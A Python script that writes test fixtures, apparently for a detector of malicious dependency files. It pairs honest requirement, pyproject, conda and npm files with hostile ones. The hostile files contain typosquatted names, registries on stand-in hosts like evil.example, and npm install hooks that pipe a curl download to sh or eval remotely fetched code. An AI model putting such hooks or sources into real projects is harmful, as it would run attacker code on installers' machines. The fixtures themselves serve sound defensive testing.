#!/usr/bin/env python3
"""Requirement and lock files, malicious and honest. Standard library only."""
import json
import pathlib
import shutil

HERE = pathlib.Path(__file__).resolve().parent


def package(**members):
    return json.dumps({"name": "thing", "version": "1.0.0", **members}, indent=2) + "\n"


MALICIOUS = {
    "typosquat_transposed/requirements.txt": "numpy==1.26.4\ntensorfolw==2.15.0\n",
    "typosquat_missing/requirements.txt": "trnsformers\n",
    "typosquat_doubled/requirements.txt": "torch\npanddas>=2\n",
    "typosquat_digit/requirements.txt": "t0rch==2.1.0\n",
    "typosquat_separator/requirements.txt": "scikitlearn==1.4\n",
    "typosquat_plural/requirements.txt": "langchains\n",
    "typosquat_other_letters/requirements.txt": "numpу==1.26\n",
    "typosquat_hub/requirements.txt": "huggingface-hubb\n",
    "torchtriton/requirements.txt": "torch\ntorchtriton\n",
    "ultralytics_bad_release/requirements.txt": "ultralytics==8.3.41\n",
    "index_http/requirements.txt": "--index-url http://pypi.evil.example/simple\nnumpy\n",
    "extra_index/requirements.txt": "--extra-index-url https://packages.evil.example/simple\ncompany-internal==1.0\n",
    "trusted_host/requirements.txt": "--trusted-host pypi.evil.example\nnumpy==1.26.4\n",
    "find_links/requirements.txt": "-f http://192.0.2.7/wheels\ntorch\n",
    "direct_url/requirements.txt": "helper @ https://files.evil.example/helper-1.0-py3-none-any.whl\n",
    "direct_url_bare/requirements.txt": "http://192.0.2.7/a.tar.gz\n",
    "git_http/requirements.txt": "git+http://git.evil.example/a.git#egg=a\n",
    "git_foreign/requirements.txt": "tool @ git+https://git.evil.example/tool.git\n",
    "continued_line/requirements.txt": "--index-url \\\n   http://pypi.evil.example/simple\nnumpy\n",
    "utf16/requirements.txt": ("utf16", "numpy==1.26\ntensrflow==2.15\n"),
    "pyproject_typosquat/pyproject.toml": '[project]\nname = "x"\nversion = "1"\ndependencies = [\n  "numpy>=1.24",\n  "transfomers>=4",\n]\n',
    "pyproject_build/pyproject.toml": '[build-system]\nrequires = ["setuptoolss", "wheel"]\nbuild-backend = "setuptools.build_meta"\n',
    "poetry_source/pyproject.toml": '[tool.poetry]\nname = "x"\n\n[[tool.poetry.source]]\nname = "internal"\nurl = "http://pypi.evil.example/simple"\n\n[tool.poetry.dependencies]\npython = "^3.11"\n',
    "poetry_git/pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.11"\nhelper = {git = "https://git.evil.example/helper.git"}\n',
    "setup_cfg/setup.cfg": "[metadata]\nname = x\n\n[options]\ninstall_requires =\n    numpy\n    reqeusts\n",
    "pipfile/Pipfile": '[[source]]\nurl = "https://pypi.evil.example/simple"\nverify_ssl = false\nname = "pypi"\n\n[packages]\nnumpy = "*"\n',
    "pip_conf/pip.conf": "[global]\nindex-url = http://pypi.evil.example/simple\ntrusted-host = pypi.evil.example\n",
    "poetry_lock/poetry.lock": '[[package]]\nname = "colourama"\nversion = "0.1.6"\n\n[package.source]\ntype = "url"\nurl = "http://evil.example/c.whl"\n',
    "conda_pip/environment.yml": "name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n      - --extra-index-url https://packages.evil.example/simple\n      - tensorflw\n",
    "conda_channel/environment.yml": "name: x\nchannels:\n  - http://conda.evil.example/main\ndependencies:\n  - numpy\n",
    "npm_postinstall_curl/package.json": package(scripts={"postinstall": "curl -s http://192.0.2.7/x.sh | sh"}),
    "npm_preinstall_node/package.json": package(scripts={"preinstall": "node -e \"require('https').get('https://evil.example/x', r => r.on('data', d => eval(d + '')))\""}),
    "npm_install_powershell/package.json": package(scripts={"install": "powershell -enc ZQBjAGgAbwAgAHAAdwBuAGUAZAAgAG4AbwB3AA=="}),
    "npm_typosquat/package.json": package(dependencies={"openaii": "^4.0.0", "react": "^18"}),
    "npm_bad_release/package.json": package(dependencies={"event-stream": "3.3.6"}),
    "npm_url/package.json": package(dependencies={"helper": "http://evil.example/helper.tgz"}),
    "npm_lock_http/package-lock.json": package(lockfileVersion=3, packages={"": {}, "node_modules/left": {"version": "1.0.0", "resolved": "http://registry.evil.example/left-1.0.0.tgz"}}),
    "npmrc/.npmrc": "registry=http://registry.evil.example/\nstrict-ssl=false\n",
}

BENIGN = {
    "ml/requirements.txt": "numpy==1.26.4\npandas>=2.0,<3\nscikit-learn~=1.4\ntorch==2.3.1\ntransformers[torch]>=4.40\ndatasets\naccelerate\npeft\ntrl\nsentencepiece\nprotobuf<5\neinops\ntqdm\nwandb ; python_version >= '3.9'\n# a comment\n\n-r base.txt\n-c constraints.txt\n-e .\n",
    "torch_index/requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.1+cu121\ntorchvision==0.18.1+cu121\ntorchaudio\nxformers\n",
    "pyg_links/requirements.txt": "-f https://data.pyg.org/whl/torch-2.3.0+cpu.html\ntorch-scatter\ntorch-sparse\ntorch-cluster\npyg-lib\ntorch-geometric\n",
    "hashes/requirements.txt": "certifi==2024.2.2 \\\n    --hash=sha256:0569859f95fc761b18b45ef421b1290a0f65f147e92a1e5eb3e635f9a5e4e66f \\\n    --hash=sha256:dc383c07b76109f368f6106eee2b593b04a011ea4d55f652c6ca24a754d1cdd1\n",
    "web/requirements.txt": "fastapi\nuvicorn[standard]\npydantic-settings\nhttpx\nsqlalchemy\nalembic\nredis\ncelery\nboto3\ndjango\nflask\njinja2\ngunicorn\npsycopg2-binary\nattrs\nPyYAML\nbeautifulsoup4\n",
    "llm/requirements.txt": "openai>=1.30\nanthropic\nlangchain\nlangchain-core\nlangchain-cohere\nlangchain-ollama\nlangchain-text-splitters\nlanggraph\nllama-index\nllama-cpp-python\nollama\nchromadb\nfaiss-cpu\ntiktoken\ngradio\nstreamlit\nlitellm\nmcp\nsmolagents\nvllm\nbitsandbytes\n",
    "neighbours/requirements.txt": "dataset\ntokenizer\nwand\nsimpy\npyaml\nboto\nfastai\nfastapi\nunicorn\nscapy\nscrapy\npypdf\npypdf2\nattr\nsklearn-crfsuite\ntensorflowjs\ntorchx\ntorchao\nstable-baselines\npytorch\nopencv-python-headless\nopencv-contrib-python\ntf-keras\nkeras-cv\npillow-simd\n",
    "notebook_tools/requirements.txt": "jupyter\njupyterlab\nnotebook\nipykernel\nipywidgets\nnbconvert\nnbformat\nnbclient\nmatplotlib\nseaborn\nplotly\nbokeh\naltair\nsympy\nstatsmodels\nnetworkx\nxgboost\nlightgbm\ncatboost\nshap\noptuna\nmlflow\n",
    "audio_vision/requirements.txt": "librosa\nsoundfile\ntorchaudio\nopenai-whisper\nopencv-python\npillow\nscikit-image\nimageio\nalbumentations\ntimm\nultralytics==8.3.40\nkornia\nmonai\nnibabel\npydicom\nSimpleITK\n",
    "git_commit/requirements.txt": "transformers @ git+https://github.com/huggingface/transformers@8a734ea2c340beb54d56fd2d5a5ba5a4d1b1ad4d\n",
    "spacy_model/requirements.txt": "spacy>=3.7\nen-core-web-sm @ https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl\n",
    "constraints/constraints.txt": "numpy<2\nprotobuf==4.25.3\nurllib3<2\nidna==3.7\ncharset-normalizer==3.3.2\n",
    "pyproject/pyproject.toml": '[build-system]\nrequires = ["setuptools>=68", "wheel", "cython", "numpy"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "thing"\nversion = "0.1.0"\nrequires-python = ">=3.9"\ndependencies = ["numpy>=1.24", "torch>=2", "tqdm"]\n\n[project.optional-dependencies]\ndev = ["pytest", "black", "ruff", "mypy"]\ndocs = [\n    "sphinx",\n    "mkdocs",\n]\n\n[project.scripts]\nthing = "thing.cli:main"\n\n[tool.black]\nline-length = 100\n\n[tool.ruff.lint]\nselect = ["E", "F"]\n',
    "poetry/pyproject.toml": '[tool.poetry]\nname = "thing"\nversion = "0.1.0"\n\n[tool.poetry.dependencies]\npython = "^3.11"\nfastapi = "^0.110"\npydantic = {version = "^2.6", extras = ["email"]}\ntorch = {version = "^2.2", source = "pytorch"}\n\n[[tool.poetry.source]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\npriority = "explicit"\n\n[tool.poetry.group.dev.dependencies]\npytest = "^8"\n',
    "uv/uv.lock": 'version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "anyio"\nversion = "4.3.0"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/db/4d/anyio-4.3.0.tar.gz", hash = "sha256:f75253795a87df48568485fd18cdd2a3fa5c4f7c5be8e5e36637733fce06fed6", size = 159642 }\n\n[[package]]\nname = "httpx"\nversion = "0.27.0"\nsource = { registry = "https://pypi.org/simple" }\n',
    "setup_cfg/setup.cfg": "[metadata]\nname = thing\nversion = attr: thing.__version__\n\n[options]\npackages = find:\ninstall_requires =\n    numpy>=1.20\n    requests\n    typing-extensions; python_version<'3.10'\n\n[options.extras_require]\ntest =\n    pytest\n\n[flake8]\nmax-line-length = 100\n",
    "pipfile/Pipfile": '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n[packages]\nrequests = "*"\nnumpy = ">=1.24"\n\n[dev-packages]\npytest = "*"\n\n[requires]\npython_version = "3.11"\n',
    "conda/environment.yml": "name: ml\nchannels:\n  - pytorch\n  - nvidia\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.11\n  - pytorch::pytorch=2.3\n  - cudatoolkit\n  - numpy\n  - pip\n  - pip:\n      - transformers==4.41.0\n      - -r requirements.txt\n      - --extra-index-url https://download.pytorch.org/whl/cu121\n",
    "npm/package.json": package(scripts={"build": "tsc -p .", "test": "vitest", "prepare": "husky", "postinstall": "node scripts/postinstall.js"}, dependencies={"openai": "^4.0.0", "@modelcontextprotocol/sdk": "^1.0.0", "react": "^18.2.0", "zod": "^3", "langchain": "0.2.1", "axios": "^1.6"}, devDependencies={"typescript": "^5", "eslint": "^9", "prettier": "^3"}),
    "npm_lock/package-lock.json": package(lockfileVersion=3, packages={"": {"name": "thing"}, "node_modules/zod": {"version": "3.23.8", "resolved": "https://registry.npmjs.org/zod/-/zod-3.23.8.tgz", "integrity": "sha512-XBx9AXhXktjUqnepgTiE5flcKIYWi/rme0Eaj+5Y0lftuGBq+jyRu/md4WnuxqgP1ubdpNCsYEYPxrzVHD8d6g=="}}),
    "npmrc/.npmrc": "registry=https://registry.npmjs.org/\nsave-exact=true\n",
    "docs/requirements.txt": "sphinx==7.3.7\nsphinx-rtd-theme\nmyst-parser\nnbsphinx\nfuro\n",
    "utf8_bom/requirements.txt": "\ufeffnumpy==1.26.4\r\npandas==2.2.2\r\n",
}


def main():
    for kind, files in (("malicious", MALICIOUS), ("benign", BENIGN)):
        shutil.rmtree(HERE / kind, ignore_errors=True)
        for name, text in files.items():
            path = HERE / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            content = b"\xff\xfe" + text[1].encode("utf-16-le") if isinstance(text, tuple) else text.encode("utf-8")
            path.write_bytes(content)


if __name__ == "__main__":
    main()
